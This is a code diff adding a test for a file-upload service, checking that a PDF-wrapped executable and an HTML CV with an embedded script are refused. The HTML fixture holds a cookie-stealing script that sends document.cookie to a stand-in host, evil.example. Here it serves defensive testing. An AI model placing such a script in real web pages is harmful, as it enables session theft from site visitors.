@@ -175,6 +175,16 @@ describe("files that are refused", () => {
     expect(started).toEqual({ status: 415, body: { error: "unsupported_file_type", message: "FILE_TYPE" } })
   })
 
+  it("checks the whole file: a PDF header followed by a program, and an HTML CV with a script, are refused (issue 19, point 12)", async () => {
+    const disguised = Buffer.concat([Buffer.from("%PDF-1.7\n", "latin1"), executableFile(), Buffer.from("\n%%EOF\n", "latin1")])
+    expect(await uploadFile("cv.pdf", disguised)).toEqual({ status: 422, body: { error: "content_mismatch", message: "FILE_CONTENT" } })
+    const scripted = Buffer.from('<html><body><h1>CV</h1><script>location="https://evil.example/?"+document.cookie</script></body></html>')
+    expect(await uploadFile("cv.html", scripted)).toEqual({
+      status: 422,
+      body: { error: "content_mismatch", message: "FILE_ACTIVE_CONTENT" },
+    })
+  })
+
   it("answers malformed requests with a 4xx", async () => {
     const chunk = await call(
       uploadChunk,
